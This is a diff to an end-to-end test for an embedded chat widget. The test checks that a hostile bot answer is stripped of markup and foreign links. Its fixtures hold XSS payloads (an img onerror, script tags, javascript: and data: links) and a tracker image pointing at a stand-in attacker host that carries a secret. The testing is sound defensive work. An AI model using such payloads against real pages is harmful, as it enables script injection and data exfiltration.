@@ -207,7 +207,7 @@ describe('the widget on an owner’s page', () => {
     await context.close();
   });
 
-  it('renders a hostile answer inert: no markup, no script, no image, no javascript: link, nothing loaded', async () => {
+  it('shows a hostile answer harmless: markup and foreign links stripped by the server, the rest rendered inert, nothing loaded', async () => {
     const hostile = [
       'Here you go <img src=x onerror="alert(1)"> and <script>alert(2)</script>',
       '[click me](javascript:alert(3)) and [data](data:text/html,<script>alert(4)</script>) and [safe](https://example.com/ok)',
@@ -225,19 +225,17 @@ describe('the widget on an owner’s page', () => {
 
     const answer = lastAnswer(page);
     const text = await answer.locator('.b').innerText();
-    expect(text).toContain('<img src=x onerror="alert(1)">');
-    expect(text).toContain('![tracker](https://evil.example/x.png?q=secret)');
+    // The server removed the markup and every address the bot's documents do not contain.
+    expect(text).not.toContain('<img');
+    expect(text).not.toContain('evil.example');
+    expect(text).toContain('tracker (image removed)');
+    expect(text).toContain('html link');
     const scan = await probe<{ tags: string[]; links: Array<{ href: string; rel: string; target: string }>; attributes: string[]; images: number }>(page, 'scan()');
     for (const tag of ['img', 'script', 'iframe', 'object', 'embed', 'style']) expect(scan.tags).not.toContain(tag);
     expect(await answer.locator('.b svg').count()).toBe(0);
     expect(scan.images).toBe(0);
     expect(scan.attributes.filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
-    expect(scan.links.length).toBeGreaterThan(1);
-    for (const a of scan.links) {
-      expect(a.href).toMatch(/^https:\/\//);
-      expect(a).toMatchObject({ rel: 'noopener noreferrer', target: '_blank' });
-    }
-    expect(scan.links.map((a) => a.href)).toContain('https://example.com/ok');
+    expect(scan.links).toEqual([]);
     expect(await answer.getByText('click me').count()).toBe(1);
     expect(await answer.locator('a', { hasText: 'click me' }).count()).toBe(0);
     expect(requests.filter((u) => !u.startsWith(platform().apiUrl) && !u.startsWith(host().origin))).toEqual([]);
